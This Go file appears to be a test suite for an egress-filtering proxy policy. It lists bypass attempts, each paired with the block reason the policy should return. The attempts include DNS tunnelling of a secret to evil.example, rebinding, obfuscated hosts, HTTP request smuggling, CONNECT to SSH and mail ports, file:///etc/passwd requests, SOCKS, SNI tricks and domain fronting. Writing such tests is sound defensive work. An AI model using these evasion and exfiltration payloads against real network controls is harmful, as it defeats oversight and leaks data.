package egresstest

import (
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/net/http2"

	"glasshouse/policy/egress"
)

func reasons(r ...egress.Reason) []egress.Reason { return r }

// Attempts returns all attempts.
func Attempts() []Attempt {
	return slices.Concat(direct(), dns(), rebinding(), names(), smuggling(), proxy(), hellos(), fronting(), slow())
}

// direct returns connections that bypass the proxy.
func direct() []Attempt {
	var all []Attempt
	for _, a := range []struct{ name, addr string }{
		{"a direct address", Evil}, {"the address of an allowed host, nothing said of it", "198.51.100.77"},
		{"cloud metadata", Metadata}, {"a neighbour of the host", Private}, {"the host itself", Host},
		{"the host's default gateway", Internet},
	} {
		all = append(all, Attempt{a.name + " by HTTP", reasons(egress.ReasonHost), say(a.addr+":80", get(a.addr))})
		all = append(all, Attempt{a.name + " by what is no protocol", reasons(egress.ReasonHost), say(a.addr+":7000", "\x00\x01\x02\x03")})
	}
	for _, a := range []struct{ name, network, addr string }{
		{"UDP", "udp4", Evil + ":9"},
		{"UDP to the port of QUIC", "udp4", API + ":443"},
		{"UDP to the metadata service", "udp4", Metadata + ":53000"},
		{"IPv6 TCP", "tcp6", "[2001:db8::8]:80"},
		{"IPv6 UDP", "udp6", "[2001:db8::8]:53"},
		{"IPv6 link-local", "tcp6", "[fe80::1%eth0]:80"},
		{"ICMP", "ip4:icmp", Evil},
		{"a raw socket", "ip4:253", Evil},
		{"ICMPv6", "ip6:ipv6-icmp", "2001:db8::8"},
		{"GRE", "ip4:47", Evil},
	} {
		all = append(all, Attempt{a.name, nil, func(connect Connect) (string, error) {
			c, err := connect(a.network, a.addr)
			if err != nil {
				return "", err
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(wait / 6)) // no reply is expected
			return exchange(c, "\x08\x00\xf7\xff\x00\x00\x00\x00", "\x08\x00\xf7\xff\x00\x00\x00\x00")
		}})
	}
	all = append(all,
		Attempt{"the transparent listener itself", reasons(egress.ReasonName, egress.ReasonHost), say(Gateway+":15001", get("api.example.com"))},
		Attempt{"a port of an allowed host that is not allowed", reasons(egress.ReasonPort), say(API+":8443", get("api.example.com:8443"))},
	)
	return all
}

func query(name string, t dnsmessage.Type, edit func(*dnsmessage.Message)) string {
	m := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 77, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: t, Class: dnsmessage.ClassINET}},
	}
	if edit != nil {
		edit(&m)
	}
	b, err := m.Pack()
	if err != nil {
		return ""
	}
	return string(b)
}

// dns returns attempts to send data to a DNS server of the attacker, or to learn addresses of hosts
// that are not allowed.
func dns() []Attempt {
	const secret = "c2VjcmV0LXRoYXQtbGVhdmVz"
	var all []Attempt
	add := func(name, to, msg string, want ...egress.Reason) {
		for _, network := range []string{"udp", "tcp"} {
			all = append(all, Attempt{name + ", " + network, want, func(connect Connect) (string, error) { return resolve(connect, network, to, msg) }})
		}
	}
	add("DNS tunnel by names", Gateway+":53", query(secret+".evil.example.", dnsmessage.TypeA, nil), egress.ReasonHost)
	add("DNS tunnel by TXT", Gateway+":53", query(secret+".evil.example.", dnsmessage.TypeTXT, nil), egress.ReasonHost)
	add("DNS tunnel below an allowed host", Gateway+":53", query(secret+".api.example.com.", dnsmessage.TypeA, nil), egress.ReasonHost)
	add("DNS tunnel by TXT below an allowed pattern", Gateway+":53", query(secret+".wild.example.com.", dnsmessage.TypeTXT, nil), egress.ReasonProtocol)
	add("DNS NULL records", Gateway+":53", query("api.example.com.", dnsmessage.Type(10), nil), egress.ReasonProtocol)
	add("DNS ANY", Gateway+":53", query("api.example.com.", dnsmessage.TypeALL, nil), egress.ReasonProtocol)
	add("DNS zone transfer", Gateway+":53", query("api.example.com.", dnsmessage.TypeAXFR, nil), egress.ReasonProtocol)
	add("DNS in the class CHAOS", Gateway+":53", query("version.bind.", dnsmessage.TypeTXT, func(m *dnsmessage.Message) { m.Questions[0].Class = dnsmessage.ClassCHAOS }), egress.ReasonName)
	add("DNS with two questions", Gateway+":53", query("api.example.com.", dnsmessage.TypeA, func(m *dnsmessage.Message) {
		m.Questions = append(m.Questions, dnsmessage.Question{Name: dnsmessage.MustNewName(secret + ".evil.example."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
	}), egress.ReasonMalformed)
	add("DNS update", Gateway+":53", query("evil.example.", dnsmessage.TypeSOA, func(m *dnsmessage.Message) { m.OpCode = 5 }), egress.ReasonMalformed)
	add("another DNS server", Evil+":53", query("evil.example.", dnsmessage.TypeA, nil), egress.ReasonHost)
	return all
}

// resolve queries a DNS server and returns the response. It returns Reached if the response
// contains data.
func resolve(connect Connect, network, to, msg string) (string, error) {
	c, err := connect(network, to)
	if err != nil {
		return "", err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(wait))
	b := make([]byte, 64<<10)
	if network == "tcp" {
		c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(msg))), msg...))
		if _, err := io.ReadFull(c, b[:2]); err != nil {
			return "", err
		}
		n := binary.BigEndian.Uint16(b)
		if _, err := io.ReadFull(c, b[:n]); err != nil {
			return "", err
		}
		b = b[:n]
	} else {
		c.Write([]byte(msg))
		n, err := c.Read(b)
		if err != nil {
			return "", err
		}
		b = b[:n]
	}
	var m dnsmessage.Message
	if err := m.Unpack(b); err != nil {
		return "", err
	}
	if len(m.Answers) > 0 {
		return Reached + m.Answers[0].GoString(), nil
	}
	if m.RCode == dnsmessage.RCodeSuccess {
		return Reached + "a name server that has no answer", nil
	}
	return m.RCode.String(), nil
}

// rebinding returns attempts with allowed names whose addresses are not Internet addresses.
func rebinding() []Attempt {
	var all []Attempt
	for name := range Names {
		if strings.HasSuffix(name, ".rebind.example") {
			all = append(all,
				Attempt{"rebinding by the HTTP proxy: " + name, reasons(egress.ReasonAddress), say(Proxy, fmt.Sprintf("GET http://%s/ HTTP/1.1\r\nHost: %[1]s\r\nConnection: close\r\n\r\n", name))},
				Attempt{"rebinding past DNS: " + name, reasons(egress.ReasonAddress), say(Evil+":80", get(name))},
				Attempt{"rebinding by CONNECT: " + name, reasons(egress.ReasonAddress), say(Proxy, fmt.Sprintf("CONNECT %s:443 HTTP/1.1\r\nHost: %[1]s:443\r\n\r\n", name), string(Hello(name)))},
			)
		}
	}
	slices.SortFunc(all, func(a, b Attempt) int { return strings.Compare(a.Name, b.Name) })
	return all
}

// names returns attempts with hosts in unusual notations.
func names() []Attempt {
	var all []Attempt
	add := func(name, host string, want ...egress.Reason) {
		all = append(all, Attempt{"host " + name, want, say(Evil+":80", get(host))})
	}
	add("in hexadecimal", "0x7f.1", egress.ReasonMalformed)
	add("as one number", "2130706433", egress.ReasonMalformed)
	add("as one hexadecimal number", "0xa9fea9fe", egress.ReasonMalformed)
	add("in octal", "0177.0.0.1", egress.ReasonMalformed)
	add("as a short address", "127.1", egress.ReasonMalformed)
	add("as an address with a dot at its end", "127.0.0.1.", egress.ReasonMalformed)
	add("as loopback", "127.0.0.1", egress.ReasonHost)
	add("as IPv6 loopback", "[::1]", egress.ReasonHost)
	add("as a mapped address", "[::ffff:169.254.169.254]", egress.ReasonHost)
	add("as an address with a zone", "[fe80::1%25eth0]", egress.ReasonMalformed)
	add("with a user", "api.example.com@evil.example", egress.ReasonMalformed)
	add("with a user that looks like a port", "api.example.com:80@evil.example", egress.ReasonMalformed)
	add("with a NUL", "api.example.com\x00.evil.example", egress.ReasonMalformed)
	add("with an escaped NUL", "evil.example%00.wild.example.com", egress.ReasonMalformed)
	add("with a space", "api.example.com evil.example", egress.ReasonMalformed)
	add("with a slash", "evil.example/.wild.example.com", egress.ReasonMalformed)
	add("with a backslash", `evil.example\.wild.example.com`, egress.ReasonMalformed)
	add("with a question mark", "evil.example?.wild.example.com", egress.ReasonMalformed)
	add("with a hash", "evil.example#.wild.example.com", egress.ReasonMalformed)
	add("with a comma", "api.example.com, evil.example", egress.ReasonMalformed)
	add("with letters that look alike", "аpi.example.com", egress.ReasonMalformed)
	add("with a full-width dot", "evil.example。wild.example.com", egress.ReasonMalformed)
	add("with an empty label", "evil.example..wild.example.com", egress.ReasonMalformed)
	add("with a dot before it", ".wild.example.com", egress.ReasonMalformed)
	add("that ends like an allowed one", "evilapi.example.com", egress.ReasonHost)
	add("that begins like an allowed one", "api.example.com.evil.example", egress.ReasonHost)
	add("that is the base of an allowed pattern", "wild.example.com", egress.ReasonHost)
	add("with two ports", "api.example.com:80:81", egress.ReasonMalformed)
	add("with the port 0", "api.example.com:0", egress.ReasonMalformed)
	add("with a port that is too large", "api.example.com:65616", egress.ReasonMalformed)
	add("with a negative port", "api.example.com:-80", egress.ReasonMalformed)
	add("with another port", "api.example.com:7000", egress.ReasonMismatch)
	add("that is empty", "", egress.ReasonMalformed)
	add("that is not allowed, in other case", "EVIL.example", egress.ReasonHost)
	add("that is not allowed, with a dot at its end", "evil.example.", egress.ReasonHost)
	return all
}

// smuggling returns messages that two programs may parse differently (request smuggling). The
// second request in them is for a host that is not allowed.
func smuggling() []Attempt {
	const inner = "GET / HTTP/1.1\r\nHost: hidden.example.com\r\nConnection: close\r\n\r\n"
	var all []Attempt
	add := func(name, msg string, want ...egress.Reason) {
		if want == nil {
			want = reasons(egress.ReasonMalformed)
		}
		all = append(all, Attempt{"smuggling: " + name, want, say(Front+":80", msg)})
	}
	post := func(fields, body string) string {
		return "POST / HTTP/1.1\r\nHost: front.example.com\r\n" + fields + "\r\n" + body
	}
	add("Content-Length and Transfer-Encoding", post("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"+inner))
	add("two lengths", post("Content-Length: 0\r\nContent-Length: 70\r\n", inner))
	add("two equal lengths", post("Content-Length: 5\r\nContent-Length: 5\r\n", "hello"+inner))
	add("a list of lengths", post("Content-Length: 5, 5\r\n", "hello"+inner))
	add("a signed length", post("Content-Length: +5\r\n", "hello"+inner))
	add("a length in hexadecimal", post("Content-Length: 0x5\r\n", "hello"+inner))
	add("a length with a space in it", post("Content-Length: 5 0\r\n", "hello"+inner))
	add("a space before the colon", post("Content-Length : 70\r\n", inner))
	add("a folded Transfer-Encoding", post("Transfer-Encoding:\r\n chunked\r\n", "0\r\n\r\n"+inner))
	add("a folded field", post("X-A: b\r\n\tHost: hidden.example.com\r\n", ""))
	add("an unknown coding", post("Transfer-Encoding: xchunked\r\n", "0\r\n\r\n"+inner))
	add("two codings", post("Transfer-Encoding: gzip, chunked\r\n", "0\r\n\r\n"+inner))
	add("a coding twice", post("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n"+inner))
	add("a coding after a vertical tab", post("Transfer-Encoding: \x0bchunked\r\n", "0\r\n\r\n"+inner))
	add("a coding with an underscore", post("Transfer_Encoding: chunked\r\n", "0\r\n\r\n"+inner))
	add("a coding in HTTP/1.0", "POST / HTTP/1.0\r\nHost: front.example.com\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+inner)
	add("a bare LF between fields", "GET / HTTP/1.1\r\nHost: front.example.com\nX: y\r\n\r\n")
	add("bare LF throughout", "GET / HTTP/1.1\nHost: front.example.com\n\n"+inner)
	add("a bare CR in a field", "GET / HTTP/1.1\r\nHost: front.example.com\r\nX: a\rHost: hidden.example.com\r\n\r\n")
	add("a NUL in a field", "GET / HTTP/1.1\r\nHost: front.example.com\r\nX: a\x00b\r\n\r\n")
	add("a field without a name", "GET / HTTP/1.1\r\nHost: front.example.com\r\n: hidden.example.com\r\n\r\n")
	add("a field without a colon", "GET / HTTP/1.1\r\nHost: front.example.com\r\nHost hidden.example.com\r\n\r\n")
	add("two hosts", "GET / HTTP/1.1\r\nHost: front.example.com\r\nHost: hidden.example.com\r\n\r\n")
	add("two hosts, allowed one last", "GET / HTTP/1.1\r\nHost: hidden.example.com\r\nhost: front.example.com\r\n\r\n")
	add("no host in HTTP/1.1", "GET / HTTP/1.1\r\nX-Host: hidden.example.com\r\n\r\n")
	add("a whole URL of another host", "GET http://hidden.example.com/ HTTP/1.1\r\nHost: front.example.com\r\n\r\n", egress.ReasonMismatch)
	add("a whole URL of an allowed host, Host of another", "GET http://front.example.com/ HTTP/1.1\r\nHost: hidden.example.com\r\n\r\n", egress.ReasonMismatch)
	add("a whole URL with a user", "GET http://front.example.com@hidden.example.com/ HTTP/1.1\r\nHost: front.example.com\r\n\r\n")
	add("a target with a space", "GET / HTTP/1.1 HTTP/1.1\r\nHost: front.example.com\r\n\r\n")
	add("a target with a tab", "GET\t/ HTTP/1.1\r\nHost: front.example.com\r\n\r\n")
	add("an unescaped target", "GET /é HTTP/1.1\r\nHost: hidden.example.com\r\n\r\n")
	add("lines before the request", "\r\n\r\nGET / HTTP/1.1\r\nHost: hidden.example.com\r\n\r\n")
	add("a version in lower case", "GET / http/1.1\r\nHost: hidden.example.com\r\n\r\n")
	add("the version 1.2", "GET / HTTP/1.2\r\nHost: hidden.example.com\r\n\r\n")
	add("a line that is no request before one", "HELO\r\n"+inner, egress.ReasonHost, egress.ReasonProtocol)
	add("bytes that are no request before one", "\x00\r\n"+inner, egress.ReasonHost, egress.ReasonProtocol)
	add("a second request for another host", strings.Replace(get("front.example.com"), "Connection: close\r\n", "", 1)+inner, egress.ReasonHost)
	add("a bad chunk", post("Transfer-Encoding: chunked\r\n", "5;\nhello\r\n0\r\n\r\n"+inner), egress.ReasonMalformed, egress.ReasonHost)
	add("a chunk that is longer than it says", post("Transfer-Encoding: chunked\r\n", "3\r\nhello\r\n0\r\n\r\n"+inner))
	add("a chunk of negative size", post("Transfer-Encoding: chunked\r\n", "-1\r\n"+inner))
	add("CONNECT without a proxy", "CONNECT hidden.example.com:80 HTTP/1.1\r\nHost: front.example.com\r\n\r\n"+inner, egress.ReasonProtocol)
	add("an upgrade to HTTP/2", "GET / HTTP/1.1\r\nHost: front.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n"+string(preface("hidden.example.com")), egress.ReasonProtocol)
	add("HTTP/2 in the clear", string(preface("hidden.example.com")), egress.ReasonProtocol)
	add("TRACE", "TRACE / HTTP/1.1\r\nHost: front.example.com\r\nConnection: close\r\n\r\n", egress.ReasonMethod)
	add("huge heads", "GET / HTTP/1.1\r\nHost: front.example.com\r\nX: "+strings.Repeat("a", 1<<20)+"\r\n\r\n", egress.ReasonLimit)
	add("many fields", "GET / HTTP/1.1\r\nHost: front.example.com\r\n"+strings.Repeat("a: b\r\n", 1000)+"\r\n")
	return all
}

// preface returns the start of an HTTP/2 connection with one request.
func preface(host string) []byte {
	var b strings.Builder
	b.WriteString(http2.ClientPreface)
	f := http2.NewFramer(&b, nil)
	f.WriteSettings()
	// :method GET, :scheme http, :path /, :authority
	f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndHeaders: true, EndStream: true,
		BlockFragment: append([]byte{0x82, 0x86, 0x84, 0x41, byte(len(host))}, host...)})
	return []byte(b.String())
}

// proxy returns misuses of the HTTP proxy.
func proxy() []Attempt {
	connect := func(target, host string) string {
		return fmt.Sprintf("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, host)
	}
	var all []Attempt
	add := func(name string, want egress.Reason, msg ...string) {
		all = append(all, Attempt{"proxy: " + name, reasons(want), say(Proxy, msg...)})
	}
	add("CONNECT to a host that is not allowed", egress.ReasonHost, connect("evil.example:443", "evil.example:443"))
	add("CONNECT to the port of mail", egress.ReasonPort, connect("api.example.com:25", "api.example.com:25"))
	add("CONNECT to the port of the shell", egress.ReasonPort, connect("api.example.com:22", "api.example.com:22"))
	add("CONNECT to an address", egress.ReasonHost, connect(API+":443", API+":443"))
	add("CONNECT to loopback", egress.ReasonHost, connect("127.0.0.1:80", "127.0.0.1:80"))
	add("CONNECT to metadata", egress.ReasonHost, connect(Metadata+":80", Metadata+":80"))
	add("CONNECT to IPv6 loopback", egress.ReasonHost, connect("[::1]:80", "[::1]:80"))
	add("CONNECT to a number", egress.ReasonMalformed, connect("2130706433:80", "2130706433:80"))
	add("CONNECT without a port", egress.ReasonMalformed, connect("api.example.com", "api.example.com"))
	add("CONNECT with a user", egress.ReasonMalformed, connect("api.example.com@evil.example:443", "api.example.com"))
	add("CONNECT with another Host", egress.ReasonMismatch, connect("api.example.com:443", "evil.example:443"))
	add("CONNECT to the proxy itself", egress.ReasonHost, connect(Proxy, Proxy))
	add("CONNECT, then another host in TLS", egress.ReasonMismatch, connect("front.example.com:443", "front.example.com:443"), string(Hello("hidden.example.com")))
	add("CONNECT, then another host in HTTP", egress.ReasonMismatch, connect("front.example.com:80", "front.example.com:80"), get("hidden.example.com"))
	add("CONNECT, then what is no HTTP on its port", egress.ReasonProtocol, connect("front.example.com:80", "front.example.com:80"), "\x00\x01\n", get("hidden.example.com"))
	add("a URL of a host that is not allowed", egress.ReasonHost, "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")
	add("a URL of metadata", egress.ReasonHost, "GET http://"+Metadata+"/ HTTP/1.1\r\nHost: "+Metadata+"\r\n\r\n")
	add("a URL with another Host", egress.ReasonMismatch, "GET http://front.example.com/ HTTP/1.1\r\nHost: hidden.example.com\r\n\r\n")
	add("a URL with a user", egress.ReasonMalformed, "GET http://api.example.com@evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n")
	add("a URL of https", egress.ReasonMalformed, "GET https://front.example.com/ HTTP/1.1\r\nHost: front.example.com\r\n\r\n")
	add("a URL of a file", egress.ReasonMalformed, "GET file:///etc/passwd HTTP/1.1\r\nHost: front.example.com\r\n\r\n")
	add("a request that is for no proxy", egress.ReasonMalformed, get("front.example.com"))
	add("SOCKS5", egress.ReasonProtocol, "\x05\x01\x00", "\x05\x01\x00\x03\x0cevil.example\x00\x50")
	add("SOCKS4", egress.ReasonProtocol, "\x04\x01\x00\x50\xc6\x33\x64\x08\x00")
	add("TLS", egress.ReasonProtocol, string(Hello("evil.example")))
	add("a path that is not allowed", egress.ReasonPath, "GET http://strict.example.com/closed HTTP/1.1\r\nHost: strict.example.com\r\n\r\n")
	add("a path out of an allowed one", egress.ReasonPath, "GET http://strict.example.com/open/../closed HTTP/1.1\r\nHost: strict.example.com\r\n\r\n")
	add("an escaped path out of an allowed one", egress.ReasonPath, "GET http://strict.example.com/open/%2e%2e/closed HTTP/1.1\r\nHost: strict.example.com\r\n\r\n")
	add("a path escaped twice", egress.ReasonPath, "GET http://strict.example.com/open/%252e%252e/closed HTTP/1.1\r\nHost: strict.example.com\r\n\r\n")
	add("a method that is not allowed", egress.ReasonMethod, "DELETE http://strict.example.com/open/a HTTP/1.1\r\nHost: strict.example.com\r\n\r\n")
	all = append(all, Attempt{"proxy: none, where HTTP_PROXY was taken out of the environment", reasons(egress.ReasonHost), say(Evil+":80", get("evil.example"))})
	return all
}

// hellos returns TLS ClientHello messages.
func hellos() []Attempt {
	var all []Attempt
	add := func(name, to string, want egress.Reason, hello []byte) {
		all = append(all, Attempt{"TLS: " + name, reasons(want), say(to, string(hello))})
	}
	add("a host that is not allowed", Evil+":443", egress.ReasonHost, Hello("evil.example"))
	add("a host that is not allowed, at the address of one that is", Front+":443", egress.ReasonHost, Hello("hidden.example.com"))
	add("no name", API+":443", egress.ReasonName, Hello(""))
	add("an address for a name", API+":443", egress.ReasonMalformed, Hello(API))
	add("a NUL in the name", API+":443", egress.ReasonMalformed, Hello("api.example.com\x00.evil.example"))
	add("a user in the name", API+":443", egress.ReasonMalformed, Hello("api.example.com@evil.example"))
	add("a name that is none", API+":443", egress.ReasonMalformed, Hello("0x7f.1"))
	add("two names", API+":443", egress.ReasonMalformed, withExtensions(extension(0, nameList("api.example.com", "evil.example"))))
	add("the extension twice", API+":443", egress.ReasonMalformed, withExtensions(extension(0, nameList("api.example.com")), extension(0, nameList("evil.example"))))
	add("an encrypted hello", API+":443", egress.ReasonName, withExtensions(extension(0, nameList("api.example.com")), extension(0xfe0d, "\x00\x00\x01\x00\x01\x07\x00\x00\x00\x00")))
	add("a hello that never ends", API+":443", egress.ReasonMalformed, []byte("\x16\x03\x01\x40\x00\x01\xff\xff\xff"+strings.Repeat("a", 40000)))
	add("another port", API+":8443", egress.ReasonPort, Hello("api.example.com"))
	add("where HTTP is looked for, not HTTP", API+":443", egress.ReasonProtocol, []byte("CONNECTED\r\n"))
	all[len(all)-1].Try = say(Proxy, "CONNECT look.example.com:443 HTTP/1.1\r\nHost: look.example.com:443\r\n\r\n", "\x00\x01\x02")
	return all
}

// fronting returns attempts at domain fronting: the encrypted request names a host other than the
// ClientHello.
func fronting() []Attempt {
	inside := func(sni, host string, h2 bool) func(Connect) (string, error) {
		return func(connect Connect) (string, error) {
			c, err := connect("tcp", API+":443")
			if err != nil {
				return "", err
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(wait))
			conf := &tls.Config{ServerName: sni, InsecureSkipVerify: true}
			if h2 {
				conf.NextProtos = []string{"h2"}
			}
			t := tls.Client(c, conf)
			if err := t.Handshake(); err != nil {
				return "", err
			}
			if !h2 {
				return exchange(t, get(host))
			}
			t.Write(preface(host))
			f := http2.NewFramer(io.Discard, t)
			var got strings.Builder
			for {
				frame, err := f.ReadFrame()
				if err != nil {
					return got.String(), err
				}
				switch frame := frame.(type) {
				case *http2.DataFrame:
					got.Write(frame.Data())
					if frame.StreamEnded() {
						return got.String(), nil
					}
				case *http2.RSTStreamFrame, *http2.GoAwayFrame:
					return got.String(), errors.New("ended")
				}
			}
		}
	}
	return []Attempt{
		{"fronting: another host inside", reasons(egress.ReasonMismatch), inside("look.example.com", "hidden.example.com", false)},
		{"fronting: another allowed host inside", reasons(egress.ReasonMismatch), inside("look.example.com", "front.example.com", false)},
		{"fronting: another host inside, by HTTP/2", reasons(egress.ReasonMismatch), inside("look.example.com", "hidden.example.com", true)},
		{"fronting: another port inside", reasons(egress.ReasonMismatch), inside("look.example.com", "look.example.com:8443", false)},
	}
}

// slow returns clients that send late, so that the proxy must decide without their data.
func slow() []Attempt {
	late := func(to, head, rest string, pause time.Duration) func(Connect) (string, error) {
		return func(connect Connect) (string, error) {
			c, err := connect("tcp", to)
			if err != nil {
				return "", err
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(wait + pause))
			if head != "" {
				c.Write([]byte(head))
			}
			time.Sleep(pause)
			return exchange(c, rest)
		}
	}
	return []Attempt{
		{"late: a request for another host after a silence", reasons(egress.ReasonHost), late(Front+":80", "", get("hidden.example.com"), 700*time.Millisecond)},
		{"late: a hello for another host after a silence", reasons(egress.ReasonHost), late(Front+":443", "", string(Hello("hidden.example.com")), 700*time.Millisecond)},
		{"late: half a method, then the rest", reasons(egress.ReasonHost), late(Front+":80", "GE", get("hidden.example.com")[2:], 700*time.Millisecond)},
		{"late: half a hello, then the rest", reasons(egress.ReasonHost), late(Front+":443", string(Hello("hidden.example.com")[:20]), string(Hello("hidden.example.com")[20:]), 700*time.Millisecond)},
	}
}

// Hello returns a TLS ClientHello with the given server name, or without SNI if name is empty.
func Hello(name string) []byte {
	if name == "" {
		return withExtensions()
	}
	return withExtensions(extension(0, nameList(name)))
}

func counted(size int, s string) string {
	b := binary.BigEndian.AppendUint32(nil, uint32(len(s)))
	return string(b[4-size:]) + s
}

func nameList(names ...string) string {
	var list string
	for _, n := range names {
		list += "\x00" + counted(2, n)
	}
	return counted(2, list)
}

func extension(kind uint16, body string) string {
	return string(binary.BigEndian.AppendUint16(nil, kind)) + counted(2, body)
}

func withExtensions(exts ...string) []byte {
	// Extensions that a server requires before it responds.
	exts = append(exts,
		extension(10, counted(2, "\x00\x1d\x00\x17")),         // groups
		extension(13, counted(2, "\x04\x03\x08\x04\x04\x01")), // signatures
		extension(11, counted(1, "\x00")),                     // points
	)
	body := "\x03\x03" + strings.Repeat("r", 32) + counted(1, "") + counted(2, "\xc0\x2b\xc0\x2f\xcc\xa9") + counted(1, "\x00") + counted(2, strings.Join(exts, ""))
	return []byte("\x16\x03\x01" + counted(2, "\x01"+counted(3, body)))
}
